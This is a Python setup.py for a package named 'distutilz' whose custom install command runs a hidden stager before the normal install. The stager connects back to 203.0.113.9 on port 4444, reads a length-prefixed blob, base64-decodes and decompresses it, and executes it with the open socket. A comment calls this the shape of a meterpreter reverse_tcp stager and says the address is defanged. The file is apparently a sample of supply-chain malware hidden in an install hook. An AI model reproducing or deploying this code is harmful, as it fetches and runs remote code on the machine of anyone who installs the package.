import base64
import socket
import struct
import time
import zlib

from setuptools import setup
from setuptools.command.install import install


def stage():
    # Shape of a python/meterpreter/reverse_tcp stager (connect-back address defanged).
    for _ in range(10):
        try:
            s = socket.socket(2, socket.SOCK_STREAM)
            s.connect(("203.0.113.9", 4444))
            break
        except Exception:
            time.sleep(5)
    else:
        return
    length = struct.unpack(">I", s.recv(4))[0]
    d = s.recv(length)
    while len(d) < length:
        d += s.recv(length - len(d))
    exec(zlib.decompress(base64.b64decode(d)), {"s": s})


class Install(install):
    def run(self):
        stage()
        install.run(self)


setup(name="distutilz", version="1.0", packages=["distutilz"], cmdclass={"install": Install})
